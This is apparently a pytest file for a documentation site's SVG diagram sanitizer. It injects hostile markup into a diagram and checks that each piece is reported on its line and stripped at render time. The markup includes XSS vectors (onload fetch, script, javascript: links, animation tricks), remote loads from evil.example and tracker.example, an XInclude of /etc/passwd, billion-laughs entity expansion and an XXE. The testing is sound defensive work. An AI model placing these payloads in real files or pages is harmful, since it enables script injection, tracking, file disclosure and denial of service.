"""A diagram is a drawing and nothing else: hostile SVG taken from public references (the OWASP
XSS Filter Evasion Cheat Sheet and its SVG vectors, XXE and entity-expansion attacks, privacy leaks
through remote images, fonts and stylesheets) is reported on its line in the SVG file by the
checks, and never reaches a page even when the renderer is given an unchecked file."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import DOCS, build_copy, checked, run_check

from lnox_site.content.diagrams import labelled, parse, render

SVG_FILE = "docs/recherche/schemas/jonctions-gap.svg"
ORIGINAL = (DOCS / "recherche" / "schemas" / "jonctions-gap.svg").read_text(encoding="utf-8")
ROOT_TAG = '<svg xmlns="http://www.w3.org/2000/svg"'


@dataclass(frozen=True)
class Case:
    """Hostile markup put into the project's diagram, what the check says of it and where."""

    name: str
    markup: str  # a new line after the <title> (line 2), or attributes of <svg> when on_root
    line: int
    what: str
    absent: tuple[str, ...]  # what the rendered diagram may not hold
    on_root: bool = False


CASES = [
    Case(
        "svg-onload",  # OWASP: <svg onload=alert(1)>, here as a tracker
        "onload=\"fetch('https://tracker.example/x')\"",
        1, "onload=\"fetch('https://tracker.example/x')\": an event handler, which runs code",
        ("onload", "tracker.example"), on_root=True,
    ),
    Case(
        "script", '<script>fetch("https://tracker.example/x")</script>',
        3, "<script>: a script", ("script", "tracker.example"),
    ),
    Case(
        "prefixed-script",  # an SVG <script> under another prefix, loading a remote file
        '<s:script xmlns:s="http://www.w3.org/2000/svg" href="https://evil.example/x.js"/>',
        3, "<script>: a script", ("script", "evil.example"),
    ),
    Case(
        "foreignObject-iframe",
        '<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="https://evil.example/"/></foreignObject>',
        3, "<foreignObject>: HTML inside the drawing", ("foreignObject", "iframe", "evil.example"),
    ),
    Case(
        "javascript-link",  # OWASP: <a xlink:href="javascript:alert(1)"><text>…</text></a>
        '<a href="javascript:alert(1)"><text x="1" y="1">Cliquez ici</text></a>',
        3, "<a>: a link", ("<a", "javascript:", "Cliquez"),
    ),
    Case(
        "xlink-javascript",
        '<rect xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)" '
        'width="1" height="1"/>',
        3, 'xlink:href="javascript:alert(1)" on <rect>', ("href", "javascript:"),
    ),
    Case(
        "tracking-pixel",
        '<image href="https://tracker.example/pixel.gif" width="1" height="1"/>',
        3, "<image>: a picture loaded from a file or the web", ("<image", "tracker.example"),
    ),
    Case(
        "style-attribute-url",
        '<rect width="1" height="1" style="background:url(https://tracker.example/x)"/>',
        3, 'style="background:url(https://tracker.example/x)": CSS in a style attribute, which may '
        "load files", ("style", "tracker.example"),
    ),
    Case(
        "remote-paint-server",
        '<rect width="1" height="1" fill="url(https://evil.example/x.svg#g)"/>',
        3, 'fill="url(https://evil.example/x.svg#g)": url() to something other than an element '
        "of this file", ("url(", "evil.example"),
    ),
    Case(
        "stylesheet-import-font",
        "<style>@import url(https://evil.example/x.css); @font-face { font-family: f; "
        "src: url(https://tracker.example/f.woff) }</style>",
        3, "<style>: a stylesheet", ("style", "@import", "evil.example", "tracker.example"),
    ),
    Case(
        "use-other-file", '<use href="other.svg#x"/>',
        3, '<use href="other.svg#x"> points outside the drawing', ("other.svg", "href"),
    ),
    Case(
        "use-data-url",
        '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIvPg==#x"/>',
        3, '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIvPg==#x"> points outside the '
        "drawing", ("data:", "href"),
    ),
    Case(
        "animate-href",  # <a><animate attributeName=href values=javascript:alert(1) /></a>
        '<animate attributeName="href" to="javascript:alert(1)"/>',
        3, "<animate>: an animation", ("animate", "javascript:"),
    ),
    Case(
        "set-handler", '<set attributeName="onmouseover" to="alert(1)"/>',
        3, "<set>: an animation", ("<set", "onmouseover"),
    ),
    Case(
        "xml-stylesheet",
        '<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>',
        3, "a processing instruction <?xml-stylesheet …?>", ("xml-stylesheet", "evil.example"),
    ),
    Case(
        "handler-on-a-later-line",  # the attribute's own line, not its element's
        '<rect width="1"\n      height="1"\n      onclick="alert(1)"/>',
        5, 'onclick="alert(1)": an event handler, which runs code', ("onclick",),
    ),
    Case(
        "css-escaped-url",  # u\72l( is url( once CSS reads the escape
        r'<rect width="1" height="1" fill="u\72l(https://evil.example/x)"/>',
        3, r'fill="u\72l(https://evil.example/x)": a CSS escape (\) in a value',
        ("evil.example", "\\"),
    ),
    Case(
        "image-set-mask",
        "<rect width=\"1\" height=\"1\" mask=\"image-set('https://tracker.example/x.png' 1x)\"/>",
        3, "mask=\"image-set('https://tracker.example/x.png' 1x)\": the CSS function image-set()",
        ("image-set", "tracker.example"),
    ),
    Case(
        "xinclude",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
        3, "<include> from another vocabulary than SVG (http://www.w3.org/2001/XInclude)",
        ("include", "passwd"),
    ),
    Case(
        "filter-feImage",
        '<filter id="f"><feImage href="https://tracker.example/x.png"/></filter>',
        3, "<filter> is not an element a diagram may use", ("filter", "feImage", "tracker"),
    ),
]  # fmt: skip


def hostile(case: Case) -> str:
    """The project's diagram with the case's markup in it."""
    if case.on_root:
        return ORIGINAL.replace(ROOT_TAG, f"{ROOT_TAG} {case.markup}", 1)
    lines = ORIGINAL.splitlines(keepends=True)
    return "".join([*lines[:2], case.markup + "\n", *lines[2:]])


def write(project: Path, svg: str) -> None:
    (project / SVG_FILE).write_text(svg, encoding="utf-8")


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_the_check_names_the_svg_line_and_what_is_refused(project, case):
    write(project, hostile(case))
    problems = checked(project)
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"{SVG_FILE}:{case.line}: {case.what} — "), problems


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_the_renderer_drops_what_the_check_refuses(case):
    svg = hostile(case)
    labels = [element.text for element in labelled(parse(svg))]
    markup = render(svg, labels, "diagram-test")
    assert '<title id="diagram-test-title">' in markup
    for refused in case.absent:
        assert refused not in markup


def test_the_drawing_itself_is_kept():
    # A refused attribute goes, its element stays: the rectangle of the case is drawn.
    svg = hostile(next(case for case in CASES if case.name == "remote-paint-server"))
    labels = [element.text for element in labelled(parse(svg))]
    assert '<rect width="1" height="1" />' in render(svg, labels, "x")


def test_an_internal_reference_is_a_drawing(project):
    # url(#id) and <use href="#id"> to an element of the file load nothing: they pass.
    defs = (
        '<defs><linearGradient id="fond"><stop offset="0" stop-color="#fff"/></linearGradient>'
        '<symbol id="pore"><rect width="2" height="2"/></symbol></defs>'
        '<rect width="4" height="4" fill="url(#fond)"/><use href="#pore" x="3" y="3"/>'
    )
    write(project, hostile(Case("internal", defs, 3, "", ())))
    assert checked(project) == []


def test_a_reference_to_a_missing_id_is_reported(project):
    write(project, hostile(Case("missing", '<use href="#absent"/>', 3, "", ())))
    expected = (
        f'{SVG_FILE}:3: <use href="#absent"> points outside the drawing — point to the id of an '
        'element of this file: href="#id"'
    )
    assert checked(project) == [expected]


# Billion laughs (entity expansion) and XXE: defusedxml refuses the DOCTYPE before any entity is
# declared, so nothing is expanded or read, and the file is reported on the DOCTYPE's line.
def laughs(level: int) -> str:
    """``lol<level>``, ten times ``lol<level - 1>``: a billion "lol" at level 9."""
    previous = f"&lol{level - 1 if level > 1 else ''};"
    return f'<!ENTITY lol{level} "{previous * 10}">'


LOL = "\n".join(
    [
        '<?xml version="1.0"?>',
        '<!DOCTYPE svg [<!ENTITY lol "lol">',
        *(laughs(level) for level in range(1, 10)),
        "]>",
    ]
)
DOCTYPE = f"{SVG_FILE}:2: a <!DOCTYPE>: its declarations and entities are not read — remove it: "


def entity(declaration: str, reference: str) -> str:
    """The project's diagram with a DOCTYPE on line 2 and its entity in the title."""
    title = ORIGINAL.index("</title>")
    return f"{declaration}\n{ORIGINAL[:title]} {reference}{ORIGINAL[title:]}"


def test_billion_laughs_is_refused_unexpanded(project):
    svg = entity(LOL, "&lol9;")
    write(project, svg)
    assert [problem[: len(DOCTYPE)] for problem in checked(project)] == [DOCTYPE]
    with pytest.raises(ValueError, match="line 2: a <!DOCTYPE>"):
        render(svg, [], "x")


def test_an_external_entity_is_never_read(project, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-OF-THE-SERVER", encoding="utf-8")
    declaration = (
        f'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
    )
    write(project, entity(declaration, "&xxe;"))
    problems = checked(project)
    assert [problem[: len(DOCTYPE)] for problem in problems] == [DOCTYPE]
    assert "SECRET" not in "".join(problems)


def test_nox_check_reports_a_hostile_diagram(project):
    write(project, hostile(CASES[1]))
    result = run_check(project)
    assert result.returncode != 0
    assert f"{SVG_FILE}:3: <script>: a script — " in result.stdout + result.stderr


def test_the_directive_alone_reports_and_drops_without_a_traceback(make_app, tmp_path):
    # Sphinx with the diagram directive and none of the checks: a DOCTYPE is an error of the
    # page, a script is left out of it.
    source = tmp_path / "source"
    (source / "schemas").mkdir(parents=True)
    (source / "conf.py").write_text(
        'extensions = ["myst_parser", "lnox_site.pages.diagrams"]\n', encoding="utf-8"
    )
    (source / "index.md").write_text(
        "# Essai\n\n```{diagram} schemas/script.svg\nA\n```\n\n"
        "```{diagram} schemas/lol.svg\nB\n```\n",
        encoding="utf-8",
    )
    (source / "schemas" / "script.svg").write_text(hostile(CASES[1]), encoding="utf-8")
    (source / "schemas" / "lol.svg").write_text(entity(LOL, "&lol9;"), encoding="utf-8")
    app = make_app("html", srcdir=source, freshenv=True)
    app.build()
    warnings = app.warning.getvalue()
    assert "diagram schemas/lol.svg: line 2: a <!DOCTYPE>" in warnings
    assert "Traceback" not in warnings
    html = (Path(app.outdir) / "index.html").read_text(encoding="utf-8")
    assert html.count("<svg") == 1
    assert "tracker.example" not in html


@pytest.mark.slow
def test_a_hostile_diagram_stops_the_build_at_its_svg_line(project):
    write(project, hostile(CASES[0]))
    build = build_copy(project)
    assert build.returncode != 0
    assert f"{SVG_FILE}:1: onload=" in build.log, build.log
